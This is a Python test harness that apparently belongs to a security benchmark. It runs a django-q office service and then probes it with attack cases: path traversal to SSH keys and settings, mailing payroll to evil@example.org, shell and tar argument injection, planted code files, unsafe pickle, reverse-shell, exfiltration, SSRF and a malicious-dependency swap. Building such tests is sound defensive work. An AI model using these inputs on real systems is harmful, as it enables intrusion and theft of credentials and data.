# SPDX-License-Identifier: Apache-2.0
"""The cluster of django-q: a worker on a queue in SQLite."""
import json
import os
import pickle
import select
import shutil
import subprocess
import time

from attackers import Bomb
import stage

ROUND = {"__init__.py": "def up(hours):\n"
                        "    return -(-float(hours) * 2 // 1) / 2\n"}
ROUND_NEW = {
    "__init__.py": "from roundhalf._steps import up\n",
    "_steps.py": "import configparser\nimport os\n\n\ndef up(hours):\n"
                 "    parser = configparser.ConfigParser()\n"
                 "    parser.read(os.path.join(os.path.dirname(__file__), "
                 '"steps.cfg"))\n'
                 '    parts = parser.getint("steps", "parts")\n'
                 "    return -(-float(hours) * parts // 1) / parts\n",
    "steps.cfg": "[steps]\nparts = 2\n"}
ANSWER_MS = 15000


class Sink:
    """Takes mail."""

    def __init__(self):
        self.mails = []

    async def handle_DATA(self, _server, _session, envelope):
        self.mails.append(envelope.content)
        return "250 taken"


def pdf(pages):
    """A document of so many empty pages."""
    parts = ["<</Type/Catalog/Pages 2 0 R>>",
             "<</Type/Pages/Count %d/Kids[%s]>>" % (pages, " ".join(
                 f"{number + 3} 0 R" for number in range(pages)))]
    parts += ["<</Type/Page/Parent 2 0 R/MediaBox[0 0 90 90]>>"] * pages
    text, places = "%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(text))
        text += f"{number} 0 obj{part}endobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (text + f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}"
            f"trailer<</Size {len(parts) + 1}/Root 1 0 R>>\nstartxref\n"
            f"{len(text)}\n%%EOF\n").encode()


class DjangoqOffice(stage.Service):
    """Hours, reports, letters, mail and files by a queue (django-q)."""
    packages = ["python3-django", "python3-django-q", "python3-markdown",
                "python3-requests", "python3-aiosmtpd", "qpdf"]
    site_side = None
    post = None
    sink = None
    log_start = 0

    def arrange(self):
        stage.write(self.srv / "secrets/key.txt", "not-" + stage.SECRET, 0o600)
        for name in ("inbox", "outbox", "log", "cache"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("roundhalf", "0.2", ROUND)
        seed = self.place.parent / "seed.db"
        if not seed.exists():
            status, text = self.run(self.python, "manage.py", "migrate",
                                    "--run-syncdb", wrapped=False)
            if status:
                raise stage.Broken(text)
            shutil.copy(self.srv / "var/office.db", seed)
            for path in (self.srv / "var/log").iterdir():
                path.unlink()
        shutil.copy(seed, self.srv / "var/office.db")

    def arrange_benign(self):
        self.install("roundhalf", "0.3", ROUND_NEW)

    def environment(self):
        return {**super().environment(), "MAIL_PORT": str(self.port("mail"))}

    def command(self):
        self.log_start = self.log.stat().st_size
        return [self.python, "manage.py", "qcluster"]

    def is_ready(self):
        with open(self.log, "rb") as log:
            log.seek(self.log_start)
            text = log.read()
        return b" running." in text and text.count(b"ready for work") >= 2

    def start(self):
        from aiosmtpd.controller import Controller
        super().start()
        if not self.post:
            self.sink = Sink()
            self.post = Controller(self.sink, "127.0.0.1", self.port("mail"))
            self.post.start()
        if not self.site_side:
            self.site_side = subprocess.Popen(
                [self.python, "ask.py"], cwd=self.srv,
                env=self.environment(), stdin=subprocess.PIPE,
                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
                start_new_session=True)

    def stop(self):
        if self.post:
            self.post.stop()
            self.post = None
        if self.site_side:
            stage.end_group(self.site_side)
            self.site_side.stdin.close()
            self.site_side.stdout.close()
            self.site_side = None
        super().stop()

    # ------------------------------------------------------------ ordinary use
    def ask(self, name, *words, wait=ANSWER_MS):
        """What came of a task: whether it succeeded, and its result."""
        if "." not in name:
            name = "office.tasks." + name
        self.site_side.stdin.write(json.dumps([name, words, wait]) + "\n")
        self.site_side.stdin.flush()
        if not select.select([self.site_side.stdout], [], [], 20)[0]:
            return False, "nobody answers"
        return tuple(json.loads(self.site_side.stdout.readline()))

    def does(self, name, *words, found="", is_good=True):
        done, result = self.ask(name, *words)
        self.expect(f"{name} {words}", done == is_good and found in result,
                    result)

    def entries(self, person, day, *what):
        for number, text in enumerate(what):
            self.does("enter", day, person, text, 1.2 + number)

    def month(self, month, to, subject):
        for kind in ("csv", "html"):
            self.does("report", month, kind, found=kind)
            self.does("show", f"hours-{month}.{kind}", found=month[:4])
        before = len(self.sink.mails)
        self.does("mail", to, subject, "as every month",
                  [f"hours-{month}.csv"], found="1")
        self.expect(f"mail to {to}", len(self.sink.mails) == before + 1)
        self.does("figure", month, "sum(hours) / len(hours)")
        self.does("pack", f"hours-{month}.csv hours-{month}.html",
                  f"pack-{month}")

    def paper(self, folder, name, pages, which):
        """A document of a partner's, of which some pages are wanted."""
        site = self.site("partner")
        site.page(f"/docs/{name}", pdf(pages))
        self.does("fetch", f"{site.url}/docs/{name}", f"{folder}/{name}")
        self.does("pages", f"{folder}/{name}", which, f"{which}-{name}")
        self.does("checksums", folder)

    def batch(self, name, *rows):
        stage.write(self.srv / "var/inbox" / name, pickle.dumps(list(rows)))
        self.does("take", name, found=str(len(rows)))

    def train(self, day):
        self.entries("anna", f"2026-03-0{day}", "phone", "letters")
        self.entries("ben", f"2026-03-1{day}", *["archive"] * day)
        self.entries("carla smith", f"2026-04-2{day}", "visit to the mill")
        self.month("2026-03", "boss@example.org", f"Hours {day}")
        self.month("2026-04", "anna@example.org", "Yours")
        self.paper("mill", f"offer-{day}.pdf", 4, "1-2")
        self.paper(f"2026/{day}", "Plan.v2.pdf", 7, "3")
        self.paper("weir", f"w{day}.pdf", 5, "2-4")
        self.batch(f"clock-{day}.bin", (f"2026-03-2{day}", "ben", "shift", 8))
        self.batch(f"clock-1{day}.bin", *[
            (f"2026-04-1{day}", name, "shift", 7.5)
            for name in ("anna", "carla smith")])
        self.does("letter", f"anna-{day}", "# Dear Anna\n\n|a|b|\n|-|-|\n|1|2|"
                  "\n", ["tables"])
        self.does("letter", f"mill-{day}", "Dear *mill*[^1]\n\n[^1]: old\n",
                  ["tables", "footnotes"])
        self.does("show", f"anna-{day}.html", found="<table>")
        self.does("mail", "mill@example.org", "Offer", "Thanks",
                  [f"mill-{day}.html", "3-Plan.v2.pdf"], found="1")
        self.does("clean", 30 + day)
        self.does("pages", "mill/none.pdf", "1", "none.pdf", is_good=False)
        self.does("show", "none.csv", is_good=False)
        if day > 1:
            self.restart()
            self.month("2026-03", "boss@example.org", "Once more")

    def benign(self):
        self.entries("Mary Ann", "2027-12-31", "Größe messen", "naïve; idea",
                     "a", "b", "c")
        self.entries("j.r.o'neil", "2031-02-28", "visit (outside)")
        self.month("2027-12", "mary.ann+hours@example.org", "Stunden, Grüße")
        self.month("2031-02", "o'neil@example.org", "x" * 150)
        self.paper("Neue Mühle", "Angebot Nr. 4 (Kopie).pdf", 12, "5-9")
        self.paper("2031/12/north/east", "p.pdf", 1, "1")
        self.paper("weir", "w_77.v3.pdf", 40, "1,3,5-7")
        self.batch("clock 2031.bin", *[
            ("2031-02-27", f"guest {number}", "shift", number)
            for number in range(1, 9)])
        self.batch("0.dat", ("2027-12-30", "ole-b", "shift", 0))
        self.does("letter", "Frau Holle", "Liebe *Frau*\n", ["tables"])
        self.does("letter", "all.2031", "# A\n\n# B\n", ["footnotes"])
        self.does("letter", "contents", "[TOC]\n\n# A\n", ["toc"])
        self.does("show", "Frau Holle.html", found="<em>")
        self.does("mail", "holle@example.org", "Brief", "Gruß",
                  ["Frau Holle.html", "5-9-Angebot Nr. 4 (Kopie).pdf",
                   "hours-2031-02.csv"], found="1")
        self.does("mail", "all@example.org", "nothing with it", "", [],
                  found="1")
        self.does("figure", "2031-02", "max(hours) - min(hours)")
        self.does("figure", "1999-01", "sum(hours) / len(hours)",
                  is_good=False)
        self.does("report", "1999-01", "csv", found="csv")
        self.does("report", "2027-12", "ods", is_good=False)
        self.does("pages", "weir/w_77.v3.pdf", "60-70", "x.pdf",
                  is_good=False)
        self.does("fetch", self.site("partner").url + "/docs/none.pdf",
                  "none.pdf", is_good=False)
        self.does("mail", "a@example.org", "s", "t", ["none.pdf"],
                  is_good=False)
        os.utime(self.srv / "var/outbox/contents.html",
                 (time.time() - 10 ** 7,) * 2)
        self.does("clean", 90, found="1")
        self.does("enter", "no day", "anna", "what", 1, is_good=False)
        self.restart()
        self.paper("mill", "offer-2031.pdf", 3, "2")

    def health(self):
        self.entries("anna", "2026-03-01", "phone")
        self.month("2026-03", "boss@example.org", "Hours 1")
        self.paper("mill", "offer-1.pdf", 4, "1-2")

    # ----------------------------------------------------------------- attacks
    def shows(self, name):
        return self.ask("show", str(name))[1]

    def brings(self, text, name):
        """What a partner has, under a name."""
        self.site("partner").page("/docs/x", text)
        self.ask("fetch", self.site("partner").url + "/docs/x", str(name))

    def figures(self, code):
        return self.ask("figure", "2026-03", code)[1]

    def clocks(self, *call):
        stage.write(self.srv / "var/inbox/clock-1.bin",
                    pickle.dumps(Bomb(*call)))
        self.ask("take", "clock-1.bin", wait=4000)

    @stage.attack("traversal")
    def shows_a_private_key(self):
        return self.is_told(self.shows("../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def shows_the_source(self):
        return "INSTALLED_APPS" in self.shows("../../office/settings.py")

    @stage.attack("secret disclosure")
    def shows_the_key_of_the_queue(self):
        return self.is_told(self.shows(self.srv / "secrets/key.txt"))

    @stage.attack("secret disclosure")
    def shows_the_database(self):
        return "SQLite" in self.shows("../office.db")

    @stage.attack("traversal")
    def mail_has_the_payroll_with_it(self):
        self.ask("mail", "evil@example.org", "s", "t",
                 [f"{self.place}/payroll/2026.csv"])
        return any(self.is_told(text) for text in self.sink.mails)

    @stage.attack("write to code", fresh=True)
    def document_becomes_a_kind(self):
        def use(line):
            self.brings(f"import os\nos.system('{line}')\n",
                        "../../office/kinds/evil.py")
            self.ask("report", "2026-03", "evil")
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def document_replaces_a_template(self):
        self.brings("planted", self.srv / "office/templates/hours.html")
        return "planted" in (
            self.srv / "office/templates/hours.html").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def document_becomes_a_pth_file(self):
        self.brings("import os", self.site_packages / "x.pth")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write to start-up file", fresh=True)
    def document_replaces_the_profile(self):
        self.brings("planted", self.home / ".profile")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("malicious plugin", fresh=True)
    def letter_loads_what_was_brought(self):
        def use(line):
            self.brings(f"import os\nos.system('{line}')\n",
                        self.site_packages / "nice.py")
            self.ask("letter", "a", "text", ["nice"])
        return self.runs_line(use)

    @stage.attack("SSRF")
    def document_is_of_an_internal_service(self):
        def use(url):
            self.ask("fetch", url, "mill/meta.txt")
            return self.shows("../inbox/mill/meta.txt")
        return self.fetches_inside(use)

    @stage.attack("SSRF")
    def document_is_redirected_inside(self):
        def use(url):
            self.ask("fetch", url, "mill/meta.txt")
            return self.shows("../inbox/mill/meta.txt")
        return self.is_redirected_inside("partner", use)

    @stage.attack("command injection")
    def pack_runs_a_command(self):
        return self.runs_line(
            lambda line: self.ask("pack", f".; {line}", "x"))

    @stage.attack("argument injection")
    def pack_runs_a_checkpoint(self):
        return self.runs_line(lambda line: self.ask(
            "pack", "--checkpoint=1 "
            f"'--checkpoint-action=exec={line}' .", "x"))

    @stage.attack("argument injection")
    def pack_holds_the_credentials(self):
        self.ask("pack", f"-C {self.home} .aws/credentials", "k")
        status, text = self.run(
            "tar", "-xzOf", self.srv / "var/outbox/k.tar.gz", wrapped=False)
        return not status and self.is_told(text)

    @stage.attack("command injection")
    def queue_calls_the_system(self):
        return self.runs_line(lambda line: self.ask("os.system", line))

    @stage.attack("unsafe pickle")
    def clock_runs_a_command(self):
        return self.runs_line(lambda line: self.clocks(os.system, line))

    @stage.attack("reverse shell")
    def clock_calls_home(self):
        return self.calls_home(lambda code: self.clocks(exec, code))

    @stage.attack("exfiltration")
    def formula_sends_credentials(self):
        return self.steals(lambda code: self.figures(f"exec({code!r})"))

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.figures(f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.figures)

    @stage.attack("symlink swap", fresh=True)
    def report_became_a_link(self):
        self.ask("report", "2026-03", "csv")
        path = self.srv / "var/outbox/hours-2026-03.csv"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.shows("hours-2026-03.csv"))

    @stage.attack("malicious dependency", fresh=True)
    def roundhalf_sends_credentials(self):
        def use():
            self.restart()
            self.ask("enter", "2026-03-01", "anna", "phone", 1)
        return self.dependency_steals("roundhalf", "0.2.1", ROUND, use)
